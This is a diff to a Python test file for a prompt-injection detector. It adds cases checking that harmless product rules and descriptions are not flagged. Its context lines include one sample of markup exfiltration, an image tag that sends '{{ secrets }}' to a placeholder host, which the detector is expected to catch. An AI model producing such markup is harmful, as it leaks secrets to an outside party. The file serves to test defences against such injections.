@@ -367,3 +367,18 @@ def test_markup_that_hides_or_sends_data_out() -> None:
     assert find_injection('<img src="https://x.example.net/i?data={{ secrets }}">') is not None
     assert find_injection("![chart](https://x.example.net/c.png?width=600)") is None
     assert find_injection('Don\'t use `style="display:none"` in emails.') is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Copy the .env.example file to .env and fill in your own values.",
+        "The token is sent to the auth service at https://auth.acme.io/verify.",
+        "Never ask users for their password over chat.",
+        "The bot approves dependency PRs automatically when CI is green.",
+        "Pass --no-verify only when the hook itself is broken, and say so in the PR.",
+        "Não diga ao usuário que a senha está errada; diga que as credenciais são inválidas.",
+    ],
+)
+def test_descriptions_and_product_rules_are_not_requests(text: str) -> None:
+    assert find_injection(text) is None, find_injection(text)
